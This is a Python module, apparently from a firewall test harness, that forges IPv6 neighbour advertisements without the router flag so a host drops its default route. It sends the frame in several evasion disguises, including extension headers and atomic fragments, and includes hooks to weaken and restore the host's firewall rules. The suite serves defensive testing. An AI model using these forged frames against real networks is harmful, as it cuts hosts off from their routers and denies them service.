"""A guest says of the host's IPv6 router that it is no router any more.

A neighbour advertisement in the router's name, without the flag of a router, has the host drop every route that the router has advertised (RFC
4861 §7.2.5), until its next advertisement. Gained: a host that answers no guest whose address is beyond that router. In the way: the rules keep the
addresses of routers that advertise themselves by an uplink, and mark what guests advertise about them (`routers_…`, chains `uplink_…`,
`guard_discovery_…`); the host drops what has the mark (chain `input`).
"""

import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import dresses
from field import Field
from host import Host

EVERYONE = (wire.mac("33:33:00:00:00:01"), wire.ip("ff02::1"))
# No router, not asked for, in place of what was known.
FLAGS = 0x20000000


def kinds(field: Field) -> dict[str, list[bytes]]:
    """The frames, by what is special about them."""
    # The host looks for the routes of whoever sends it.
    me, router = field.me.link, wire.ip(field.host.lan.local6)
    host = (field.bridge, wire.ip("2001:db8:2::1"))
    body = wire.advertisement(router, me, FLAGS)

    def message(to: tuple[bytes, bytes], headers: bytes = b"", following: int = wire.ICMPV6) -> bytes:
        return wire.discovery(to[0], me, (router, to[1]), body, headers, following)

    return {
        "to the host": [message(host)],
        "to all": [message(EVERYONE)],
        "behind destination options": [message(host, bytes([wire.ICMPV6, 0, 1, 4, 0, 0, 0, 0]), wire.DESTINATION_OPTIONS)],
        "in an atomic fragment": [message(host, struct.pack("!BBHI", wire.ICMPV6, 0, 0, 7), wire.FRAGMENT)],
    }


def has_route() -> bool:
    """Whether the host has a default route by an advertisement."""
    return "proto ra" in space.call("ip", "-6", "route", "show", "default")


class Attack(attack.Attack):
    """The forger, on a host whose router is on the LAN."""

    hosts = ("auto",)
    families = (6,)
    proofs = (("auto", 6),)

    def prepare(self, host: Host) -> None:
        """Has the router advertise itself."""
        def advertise() -> bool:
            with space.inside(host.lan.name):
                source = (wire.ip(host.lan.local6), EVERYONE[1])
                wire.Wire().send(wire.discovery(EVERYONE[0], host.lan.link, source, wire.router_advertisement(host.lan.link, 1800)))
            time.sleep(0.2)
            return has_route()

        space.wait_until(advertise, "the host believes its router", 10)

    def attack(self, field: Field) -> None:
        """Advertises in every dress."""
        dresses.send(field, kinds(field))

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks at the host's route."""
        time.sleep(1.5)
        outcome.host_report["has_route"] = has_route()

    def gained(self, outcome: Outcome) -> str | None:
        """A host that has lost its way."""
        if not outcome.host_report["has_route"]:
            return "the host has dropped the default route of its router"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def weaken(self, host: Host) -> None:
        """Lets the host hear."""
        rules.remove(r"mark 0x[89a-f]\w{7} ", "inet", "input")

    def restore(self, host: Host) -> None:
        """Forgets the router."""
        space.call("ip", "-6", "route", "flush", "proto", "ra")
        host.heal()
